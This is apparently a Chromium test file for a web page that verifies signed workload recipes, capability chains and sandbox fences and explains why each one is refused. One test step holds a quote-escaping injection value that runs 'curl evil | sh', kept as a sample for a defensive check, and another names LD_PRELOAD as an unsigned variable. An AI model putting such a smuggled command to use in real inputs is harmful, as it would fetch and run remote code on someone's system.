import assert from "node:assert/strict";
import { PAGE_POLICY } from "../../routes/page.ts";
import { QUESTIONS } from "../questions.ts";
import { inChromium } from "./visit.ts";

const ALL = QUESTIONS.flatMap(({ name, examples }) =>
  examples.map((example) => ({ question: name, ...example }))
);
/** A yes is headed by its decision, or by a relation that is within; any other code is a no. */
const YES = ["", "admit", "trusted", "equal", "subset"];

inChromium("the page answers every example, and sends nothing", async (t, open, site) => {
  const visit = await open();
  const { page, complaints, requests } = visit;

  await t.step("it is served under its policy, which Chromium keeps", async () => {
    const response = await page.request.get(`${site.origin}/`);
    assert.equal(response.headers()["content-security-policy"], PAGE_POLICY);
    const kept = await page.evaluate(() => fetch("/writ.js").then(() => "sent", () => "refused"));
    assert.equal(kept, "refused");
    complaints.length = 0; // that refusal is told on the console
  });

  const loaded = requests.length;
  const served = site.requests.length;

  for (const { question, name, title, code } of ALL) {
    await t.step(`${question}: ${title}`, async () => {
      await visit.go(question, name);
      const verdict = await visit.verdict();
      if (code === undefined) assert.ok(YES.includes(verdict.code), verdict.code);
      else assert.equal(verdict.code, code);
      const state = await page.locator("html").getAttribute("data-state");
      assert.equal(state === "granted" || state === "read", code === undefined, `${state}`);
    });
  }

  await t.step("without a network, it answers as before", async () => {
    await page.context().setOffline(true);
    await visit.go("workload", "stranger");
    assert.equal((await visit.verdict()).code, "untrusted_key");
    await page.context().setOffline(false);
  });

  await t.step("nothing was asked for after loading, and the console is silent", () => {
    assert.equal(requests.length, loaded);
    assert.equal(site.requests.length, served);
    assert.deepEqual(complaints, []);
  });
});

inChromium("a refusal says what is wrong and whose move it is", async (t, open) => {
  const visit = await open();
  const { page } = visit;
  const texts = (selector: string) => page.locator(selector).allTextContents();

  await t.step("a variable that was not signed: the dispatcher's", async () => {
    await visit.go("workload", "preload");
    const { code, fact, mover } = await visit.verdict();
    assert.deepEqual([code, fact, mover], ["mismatch", "env", "the dispatcher"]);
    assert.deepEqual(await texts(".asked.wrong code"), ["LD_PRELOAD"]);
    assert.deepEqual(await texts(".ladder b"), ["yes", "yes", "yes", "yes", "no"]);
    assert.deepEqual(await texts(".marks .refused"), ['"LD_PRELOAD"']);
    assert.match((await texts(".grant th"))[0]!, /^Signed/);
  });

  await t.step("a stranger's key: the operator's, or the author's", async () => {
    await visit.go("workload", "stranger");
    assert.equal((await visit.verdict()).mover, "the operator");
    assert.deepEqual(await texts(".moves .other strong"), ["the recipe's author"]);
    assert.deepEqual(await texts(".ladder b"), [
      "yes",
      "no",
      "not asked",
      "not asked",
      "not asked",
    ]);
    assert.deepEqual(await texts(".carried .bad"), ["not pinned"]);
    assert.match((await texts(".grant.claimed th"))[0]!, /^Claimed/);
  });

  await t.step("a hole that leaves its quotes: which one, and by what", async () => {
    await visit.go("workload", "quote");
    assert.deepEqual(await texts(".misfit"), ["x'; curl evil | sh; echo '"]);
    assert.match((await texts(".why-not"))[0]!, /\{\{target\}\}.*single quote/);
  });

  await t.step("every record of the document is shown with its length", async () => {
    await visit.go("workload", "document");
    assert.equal((await visit.verdict()).word, "It reads");
    const labels = await texts(".record .label"), bytes = await texts(".record .bytes");
    assert.deepEqual([labels[0], bytes[0]], ["recipe", "11"]);
    assert.deepEqual([labels.at(-1), bytes.at(-1)], ["secret.mode", "3"]);
    assert.deepEqual(await texts(".record .hole"), ["{{target}}", "{{out}}"]);
  });

  await t.step("a widened edge: what it tried to gain, on each axis", async () => {
    await visit.go("chain", "widened");
    assert.equal((await visit.verdict()).mover, "the issuer");
    assert.deepEqual(await texts(".gained dt"), ["fs_write", "net", "max_calls"]);
    assert.deepEqual(await texts(".edge-row.refused .given dt"), ["fs_read", "fs_write", "exec"]);
    assert.deepEqual(await texts(".edge-mark"), ["valid", "valid", "valid", "refused"]);
  });

  await t.step("a swapped body: the id claimed beside the id recomputed", async () => {
    await visit.go("chain", "swapped");
    const [named, found] = await texts(".link-row.broken .differ code");
    assert.match(named!, /^bafyr4i/);
    assert.match(found!, /^bafyr4i/);
    assert.notEqual(named, found);
  });

  await t.step("a fence without its closure: each axis, and what lies outside it", async () => {
    await visit.go("fence", "undeclared");
    assert.equal((await visit.verdict()).mover, "the harness");
    assert.deepEqual(await texts(".axis.refused .beyond li"), [
      "/etc/ld.so.cache",
      "/lib64/ld-linux-x86-64.so.2",
      "/usr/lib/libc.so.6",
      "/tmp/build",
      "/lib64/ld-linux-x86-64.so.2",
      "class loopback",
    ]);
    await visit.go("fence", "declared");
    assert.deepEqual(await texts(".axis .beyond li"), []);
  });

  await t.step("what is said aloud is the verdict, its code and its mover", async () => {
    await visit.go("workload", "image");
    assert.deepEqual(await texts("#spoken"), [
      "Refused: mismatch, image. The move is with the dispatcher.",
    ]);
  });
});
